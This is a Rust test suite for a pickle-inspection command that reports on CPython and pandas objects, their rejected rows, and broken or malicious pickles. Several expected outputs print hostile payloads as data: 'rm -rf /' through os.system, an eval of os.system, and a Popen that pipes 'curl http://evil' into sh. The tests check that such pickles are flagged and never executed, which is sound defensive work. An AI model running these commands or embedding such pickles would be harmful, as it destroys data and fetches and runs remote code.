//! `inspect`: what it says of objects that CPython and pandas wrote, whole and broken.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;

use rstest::rstest;
use serde_json::Value;
use tempfile::TempDir;

use crate::cloud::Cloud;
use crate::corpus::python;
use crate::daemon::command;

static SPECIMENS: LazyLock<TempDir> = LazyLock::new(|| {
    let dir = tempfile::tempdir().unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/oracle/specimens.py");
    let made = Command::new(python()).arg(script).arg("--out").arg(dir.path()).output().expect("run Python");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    dir
});

fn specimen(name: &str) -> PathBuf {
    let path = SPECIMENS.path().join(name);
    if path.exists() { path } else { SPECIMENS.path().join(format!("{name}.pkl")) }
}

/// An object that pandas wrote.
fn of_pandas(version: &str, name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/data/decode/pandas-{version}/{name}.pkl.gz"))
}

/// Exit code and both outputs.
fn run(path: &Path, arguments: &[&str]) -> (i32, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let output = command(dir.path(), &[]).arg("inspect").arg(path).args(arguments).output().unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

fn json(path: &Path) -> (i32, Value) {
    let (exit, stdout, stderr) = run(path, &["--format", "json"]);
    (exit, serde_json::from_str(&stdout).unwrap_or_else(|error| panic!("{error}: {stdout}{stderr}")))
}

fn list<'v>(value: &'v Value, member: &str) -> impl Iterator<Item = &'v Value> {
    value[member].as_array().unwrap_or_else(|| panic!("{member} in {value}")).iter()
}

fn text(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// `name: dtype: types; nulls; missing; what it is read as`
fn field(field: &Value) -> String {
    let types: Vec<_> = list(field, "types").map(|it| format!("{} {}", text(&it["type"]), it["values"])).collect();
    let dtype = field["dtype"].as_str().map_or(String::new(), |dtype| format!("{dtype}: "));
    let read_as: Vec<_> = list(field, "read_as").map(text).collect();
    let place = if field["of"] == "first_ad" { "ads[0]." } else { "" };
    format!(
        "{place}{}: {dtype}{}; {} nulls, {} missing; {}",
        text(&field["name"]),
        types.join(", "),
        field["nulls"],
        field["missing"],
        if read_as.is_empty() { "not read".to_owned() } else { read_as.join(", ") }
    )
}

fn fields(found: &Value) -> Vec<String> {
    list(found, "fields").chain(list(found, "absent_fields")).map(field).collect()
}

fn assert_has_field(path: &Path, expected: &str) {
    let (exit, found) = json(path);
    let fields = fields(&found);
    assert!(exit == 0 && fields.iter().any(|field| field == expected), "{expected:?} is not in {fields:#?}");
}

#[rstest]
#[case("list", "Rows", 5, 1)]
#[case("list of protocol 0", "Rows", 5, 1)]
#[case("tuple", "Rows", 5, 1)]
#[case("dumps of rows", "Rows", 5, 5)]
#[case("dumps of lists", "Rows", 5, 2)]
#[case("columns", "Columns", 5, 1)]
#[case("mixed", "Mixed", 5, 2)]
#[case("ordered dicts", "Rows", 1, 1)]
#[case("empty list", "Empty", 0, 1)]
#[case("compressed.pkl.gz", "Rows", 7, 2)]
#[case("Python 2", "Rows", 1, 1)]
fn every_shape_is_told_with_all_of_its_rows_surveyed(
    #[case] name: &str,
    #[case] shape: &str,
    #[case] rows: u64,
    #[case] dumps: u64,
) {
    let (exit, found) = json(&specimen(name));
    assert_eq!(exit, 0);
    assert_eq!(
        (text(&found["shape"]), &found["rows"], &found["dumps"]),
        (shape.to_owned(), &rows.into(), &dumps.into())
    );
    assert_eq!((&found["surveyed_rows"], &found["survey_incomplete"]), (&rows.into(), &Value::Null));
    let measured = |field: &&Value| field["name"] == "ts" && field["values"] == rows;
    assert_eq!(list(&found, "fields").filter(measured).count(), usize::from(rows > 0), "{found}");
    assert_eq!(list(&found, "first_rows").count() as u64, rows.min(5));
    for stage in ["fetch", "inflate", "decode", "sum", "survey"] {
        assert!(found["milliseconds"][stage].as_f64().is_some_and(|took| took >= 0.0), "{stage}");
    }
}

#[rstest]
#[case("unknown fields", "ua: str 1, None 1, bytes 1; 1 nulls, 1 missing; not read")]
#[case("unknown fields", "geo: dict 1, list 1; 0 nulls, 2 missing; not read")]
#[case("unknown fields", "ts: int 4; 0 nulls, 0 missing; timestamp")]
#[case("unknown fields", "rev: float 4; 0 nulls, 0 missing; measure revenue (money)")]
#[case("unknown fields", "ads[0].aid: int 4; 0 nulls, 0 missing; inventory_id")]
#[case(
    "types",
    "n: int 2, float 1, float NaN 1, None 1, bool 1, Decimal 1, set 1, tuple 1; 2 nulls, 0 missing; not read"
)]
#[case("fields that are missing", "time: int 1; 0 nulls, 0 missing; not read")]
#[case("fields that are missing", "ts: ; 0 nulls, 1 missing; timestamp")]
#[case("fields that are missing", "imp: ; 0 nulls, 1 missing; measure impressions")]
#[case("ads in JSON", "ads: str 1; 0 nulls, 0 missing; ads")]
#[case("ads in JSON", "ads[0]._god: JSON null 1; 1 nulls, 0 missing; ad_id")]
#[case("ads in JSON", "ads[0].x: JSON string 1; 0 nulls, 0 missing; not read")]
#[case("keys that are no text", "(1, 2): int 1; 0 nulls, 0 missing; not read")]
#[case("columns", "clk: int 5; 0 nulls, 0 missing; measure clicks")]
#[case("Python 2", "mid: str of Python 2 1; 0 nulls, 0 missing; media_key")]
fn field_is_told_with_types_nulls_and_role(#[case] name: &str, #[case] expected: &str) {
    assert_has_field(&specimen(name), expected);
}

#[rstest]
#[case("1.0.5", "mid: object: str 3, None 1, NaN, NaT or NA 1, int 1, bytes 1; 2 nulls, 0 missing; media_key")]
#[case("1.3.5", "xreq: int32: int 7; 0 nulls, 0 missing; measure requests")]
#[case("1.5.3", "at: datetime64: datetime 6, NaN, NaT or NA 1; 1 nulls, 0 missing; not read")]
#[case("2.2.3", "clk: Int64: int 6, NaN, NaT or NA 1; 1 nulls, 0 missing; measure clicks")]
#[case("2.3.3", "group: category of 2 str: str 6, NaN, NaT or NA 1; 1 nulls, 0 missing; not read")]
#[case("3.1.1", "data: pyarrow large_string: str 7; 0 nulls, 0 missing; not read")]
#[case("3.1.1-numpy", "ok: bool: bool 7; 0 nulls, 0 missing; not read")]
#[case("3.1.1", "xpsb: ; 0 nulls, 7 missing; measure passbacks")]
fn frame_is_told_by_column_dtype_and_nulls(#[case] version: &str, #[case] expected: &str) {
    assert_has_field(&of_pandas(version, "frame.p5"), expected);
}

#[rstest]
#[case(specimen("the C pickler"), "batches as the C pickler (_pickle) cuts them")]
#[case(specimen("the Python pickler"), "batches as the pure Python pickler (pickle.py) cuts them")]
#[case(specimen("no memo"), "nothing is memoized: a pickler in fast mode, or an optimized pickle")]
#[case(specimen("Python 2"), "Python 2 wrote it: it has str of 8-bit characters, which Python 3 never writes")]
#[case(specimen("list of protocol 0"), "no PROTO opcode: protocol 0 or 1")]
#[case(specimen("tuple"), "memoized by number (PUT, BINPUT), as protocols 0 to 3 do")]
#[case(specimen("list"), "memoized in order (MEMOIZE), as protocols 4 and 5 do")]
#[case(specimen("compressed.pkl.gz"), "gzip header as Python's gzip module writes it at level 9, its default")]
#[case(of_pandas("1.1.5", "frame.p4"), "pandas 1.0 to 1.2: blocks in the state of the BlockManager")]
#[case(of_pandas("1.3.5", "frame.p5"), "pandas 1.3: blocks through functools.partial(new_block)")]
#[case(of_pandas("2.2.3", "frame.p2"), "pandas 1.4 to 2.x: blocks through _unpickle_block")]
#[case(of_pandas("2.2.3", "frame.p2"), "numpy 1: names numpy.core")]
#[case(of_pandas("3.1.1", "frame.p2"), "pandas 3: its classes are named by the public module")]
#[case(of_pandas("3.1.1", "frame.p2"), "numpy 2: names numpy._core")]
#[case(of_pandas("3.1.1", "frame.p2"), "columns kept in pyarrow arrays")]
fn producer_is_hinted_at(#[case] path: PathBuf, #[case] hint: &str) {
    let (_, found) = json(&path);
    assert!(list(&found, "hints").any(|said| said == hint), "{hint:?} is not in {}", found["hints"]);
}

#[test]
fn gzip_header_and_protocols_are_told() {
    let (_, found) = json(&specimen("compressed.pkl.gz"));
    let gzip = &found["gzip"];
    assert_eq!((&gzip["modified"], &gzip["name"]), (&1_718_000_000.into(), &"ads-20240610.pkl".into()));
    assert_eq!((&gzip["os"], &gzip["compression"]), (&255.into(), &"slowest".into()));
    assert_eq!(found["gzip_members"], 2);
    let (_, found) = json(&specimen("dumps of lists"));
    assert_eq!(found["producer"]["protocols"].to_string(), r#"[{"dumps":1,"protocol":5}]"#);
    assert_eq!(found["gzip"], Value::Null);
}

#[rstest]
#[case("rejects")]
#[case("rejects of protocol 0")]
fn every_reject_is_told_with_its_place_field_and_value(#[case] name: &str) {
    let (exit, found) = json(&specimen(name));
    let rejects: Vec<String> = list(&found, "rejects")
        .flat_map(|reject| {
            let reason = text(&reject["reason"]);
            list(reject, "first")
                .map(move |it| format!("{reason}: row {}: {} = {}", it["row"], text(&it["field"]), text(&it["value"])))
        })
        .collect();
    let expected = [
        "not_a_row: row 12: null = str 'no row'".to_owned(),
        "timestamp_missing: row 2: ts = None".to_owned(),
        "timestamp_not_a_number: row 3: ts = str 'soon'".to_owned(),
        "timestamp_out_of_window: row 4: ts = int 5".to_owned(),
        "media_key_not_text: row 5: mid = list ['m1']".to_owned(),
        format!("media_key_too_long: row 6: mid = str '{}'", "m".repeat(65)),
        "ads_unreadable: row 7: ads = str '[nonsense'".to_owned(),
        "id_not_an_integer: row 8: ads[0].did = str 'x'".to_owned(),
        "counter_not_an_integer: row 9: clk = float 1.5".to_owned(),
        "counter_negative: row 10: xreq = int -3".to_owned(),
        "money_not_a_number: row 11: rev = Decimal decimal.Decimal('NaN')".to_owned(),
        "money_negative: row 13: rev = float -0.5".to_owned(),
    ];
    assert_eq!(rejects, expected);
    assert_eq!(exit, 0, "rejected rows are what one wants to see, whatever the daemon says of so many");
    assert!(text(&found["too_many_rejects"]).contains("12 of 14 rows were rejected"), "{}", found["too_many_rejects"]);
}

#[test]
fn offset_of_a_reject_is_where_the_disassembler_of_cpython_sees_the_row() {
    let (_, found) = json(&specimen("rejects"));
    let begins: Value = serde_json::from_slice(&std::fs::read(specimen("rows.json")).unwrap()).unwrap();
    let begins: Vec<u64> = list(&begins, "rejects").map(|offset| offset.as_u64().unwrap()).collect();
    let mut checked = 0;
    for reject in list(&found, "rejects").flat_map(|reject| list(reject, "first")) {
        // Row 12 is a text; the dict after it is the thirteenth.
        let nth = match reject["row"].as_u64().unwrap() {
            12 => continue,
            13 => 12,
            row => row,
        };
        assert_eq!(reject["offset"], begins[nth as usize], "{reject}");
        checked += 1;
    }
    assert_eq!(checked, 11);
}

#[test]
fn reject_in_columns_is_told_by_the_place_of_its_value() {
    let path = specimen("rejects in columns");
    let (_, found) = json(&path);
    let body = std::fs::read(path).unwrap();
    let place = |reason: &str| {
        let reject = list(&found, "rejects").find(|reject| reject["reason"] == reason).unwrap();
        let first = reject["first"][0].clone();
        (first["row"].as_u64().unwrap(), first["offset"].as_u64().unwrap() as usize, text(&first["value"]))
    };
    let (row, offset, value) = place("counter_negative");
    assert_eq!((row, value.as_str(), &body[offset..offset + 5]), (33, "int -5", b"J\xfb\xff\xff\xff".as_slice()));
    let (row, offset, value) = place("timestamp_missing");
    assert_eq!((row, value.as_str(), body[offset]), (7, "None", b'N'));
}

/// `kind, opcode, what was being built, what would have been executed`
fn breakage(found: &Value) -> String {
    let error = &found["error"];
    let place = &error["place"];
    let opcode = match &place["opcode"]["byte"] {
        Value::Null => "no opcode".to_owned(),
        byte => match place["opcode"]["name"].as_str() {
            Some(name) => name.to_owned(),
            None => format!("byte {byte}"),
        },
    };
    let building: Vec<String> = list(place, "building").map(text).collect();
    let executed: Vec<String> = list(place, "would_have_executed").map(|it| text(&it["call"])).collect();
    let parts = [text(&error["kind"]), opcode, building.join(" > "), executed.join("; ")];
    parts.join(" | ")
}

#[rstest]
#[case("os.system of protocol 0", "forbidden | GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system of protocol 1", "forbidden | GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system of protocol 2", "forbidden | GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system of protocol 3", "forbidden | GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system of protocol 4", "forbidden | STACK_GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system of protocol 5", "forbidden | STACK_GLOBAL | row 3 > value of 'imp' | posix.system('rm -rf /')")]
#[case("os.system after 1,500 rows", "forbidden | STACK_GLOBAL | row 1500 > value of 'clk' | posix.system('id')")]
#[case("os.system alone", "forbidden | GLOBAL |  | posix.system('id')")]
#[case("os.system as the first byte", "forbidden | GLOBAL |  | posix.system('id')")]
#[case("os.system as the first byte of the second dump", "forbidden | GLOBAL |  | posix.system('id')")]
#[case("eval", r#"forbidden | STACK_GLOBAL | row 0 | eval("__import__('os').system('id')")"#)]
#[case(
    "Popen",
    "forbidden | STACK_GLOBAL | row 0 > value of 'ts' | subprocess.Popen(['sh', '-c', 'curl http://evil | sh'])"
)]
#[case(
    "a call of a call",
    "forbidden | STACK_GLOBAL | row 0 | __import__('os'); map(getattr(__import__('os'), 'system'), ['id'])"
)]
#[case(
    "a class with a state",
    "forbidden | GLOBAL | row 0 | __main__.Keeper.__new__(__main__.Keeper).__setstate__({'path': '/tmp'})"
)]
#[case("a name that is not called", "forbidden | STACK_GLOBAL | row 0 | ")]
#[case("state for a module", "forbidden | GLOBAL | row 0 | os.environ.__setstate__({'PATH': '/tmp'})")]
#[case("INST", "forbidden | INST | row 0 | os.system('rm -rf /')")]
#[case("OBJ", "forbidden | GLOBAL | row 0 | os.system('id')")]
#[case("persistent id", "forbidden | PERSID | row 0 > value of 'ts' | persistent_load('table 5')")]
#[case("extension", "forbidden | EXT1 | row 0 | copyreg_extension(5)")]
#[case("unknown opcode", "pickle | byte 255 | row 3 | ")]
#[case("memo that is not set", "pickle | BINGET | row 1 > value of 'ads' | ")]
#[case("truncated pickle", "pickle | no opcode | row 2 > value of 'imp' | ")]
#[case("second dump truncated", "pickle | BINFLOAT | row 4 > value of 'rev' | ")]
#[case("a number at the top", "pickle | no opcode | a whole dump, which holds 5 | ")]
#[case("unequal columns", "pickle | no opcode | a whole dump, which holds dict of 2 items | ")]
#[case("truncated gzip", "gzip | no opcode | row 464 > value of 'mid' | ")]
#[case("bad checksum", "gzip | no opcode |  | ")]
#[case("bad length", "gzip | no opcode |  | ")]
#[case("trailing garbage", "gzip | no opcode |  | ")]
#[case("deflate damaged", "gzip | no opcode |  | ")]
#[case("bomb", "too_large | no opcode |  | ")]
#[case("empty", "pickle | no opcode |  | ")]
fn broken_object_is_told_by_place_and_by_what_would_have_been_executed(#[case] name: &str, #[case] expected: &str) {
    let (exit, found) = json(&specimen(name));
    assert_eq!((exit, breakage(&found).as_str()), (1, expected), "{}", found["error"]);

    // The bytes that are shown are those of the object, and the opcode is where they are marked.
    let place = &found["error"]["place"];
    let at = |member: &str| place[member].as_u64();
    let hex = text(&place["bytes"]["hex"]);
    let shown: Vec<u8> =
        (0..hex.len()).step_by(2).map(|at| u8::from_str_radix(&hex[at..at + 2], 16).unwrap()).collect();
    let from = place["bytes"]["from"].as_u64().unwrap();
    let body = std::fs::read(specimen(name)).unwrap();
    if place["bytes"]["of"] == "file" || found["gzip"].is_null() {
        assert_eq!(&body[from as usize..][..shown.len()], shown);
    }
    if let Some(byte) = place["opcode"]["byte"].as_u64() {
        assert_eq!(u64::from(shown[(at("inflated_offset").unwrap() - from) as usize]), byte);
    }
    assert_eq!(at("stored_offset").is_some(), found["error"]["kind"] == "gzip");
}

#[rstest]
#[case("bad checksum", 30)]
#[case("bad length", 30)]
#[case("trailing garbage", 30)]
#[case("truncated gzip", 464)]
#[case("os.system of protocol 4", 3)]
#[case("second dump truncated", 4)]
#[case("bomb", 2)]
fn what_was_read_before_an_object_broke_is_told(#[case] name: &str, #[case] rows: u64) {
    let (_, found) = json(&specimen(name));
    assert_eq!(found["surveyed_rows"], rows);
    assert!(
        fields(&found).contains(&format!("ts: int {rows}; 0 nulls, 0 missing; timestamp")),
        "{:#?}",
        fields(&found)
    );
    if found["error"]["kind"] == "gzip" {
        assert_eq!(list(&found, "first_rows").count(), 5, "{found}");
        assert_eq!(found["rows"], rows);
    }
}

#[tokio::test]
async fn object_in_s3_is_told_as_a_file_is() {
    let cloud = Cloud::new("inspect-one-object").await;
    cloud.upload("logs/a b+c.pkl", &std::fs::read(specimen("eval")).unwrap()).await;
    let aws = crate::moto::server().environment().map(|(variable, value)| (variable.to_owned(), value));
    let dir = tempfile::tempdir().unwrap();
    let arguments = ["inspect", "s3://inspect-one-object/logs/a b+c.pkl", "--format", "json"];
    let output = command(dir.path(), &aws).args(arguments).output().unwrap();
    let found: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((output.status.code(), breakage(&found)), (Some(1), breakage(&json(&specimen("eval")).1)));
}

#[test]
fn nesting_is_told_to_some_depth() {
    let (_, found) = json(&specimen("2000 nested lists"));
    let said = breakage(&found);
    assert!(said.starts_with("too_large | APPEND | row 0 > value of 'x' > element 0 > element 0"), "{said}");
    assert!(said.contains("deeper"), "{said}");
}

#[test]
fn table_says_the_same_to_a_person_and_writes_nothing_to_the_terminal_that_acts() {
    let (exit, stdout, stderr) = run(&specimen("os.system of protocol 4"), &[]);
    assert_eq!(exit, 1);
    for words in [
        "BROKEN (forbidden): the pickle asks for `posix.system` at byte 352 (STACK_GLOBAL)",
        "do not unpickle this object in Python; find out who wrote it",
        "at byte 352 of the inflated stream, opcode 0x93 STACK_GLOBAL, in dump 0",
        "while reading row 3: value of 'imp'",
        "Python would have executed: posix.system('rm -rf /')",
        ">93<94 8c 08 72 6d",
        "3 rows before it broke",
    ] {
        assert!(stdout.contains(words), "{words:?} is not in\n{stdout}");
    }
    assert!(stderr.contains(": forbidden: "), "{stderr}");
    for name in ["an escape sequence", "unknown fields", "rejects", "compressed.pkl.gz"] {
        let (_, stdout, stderr) = run(&specimen(name), &[]);
        assert!(!(stdout + &stderr).contains(|it: char| it.is_control() && it != '\n'), "{name}");
    }
}

#[test]
fn rows_shown_are_as_many_as_are_asked_for() {
    for (rows, shown) in [("0", 0), ("3", 3), ("100", 40)] {
        let (_, stdout, _) = run(&specimen("the C pickler"), &["--format", "csv", "--rows", rows]);
        assert_eq!(stdout.lines().count().saturating_sub(1).min(40), shown, "{rows}");
    }
}
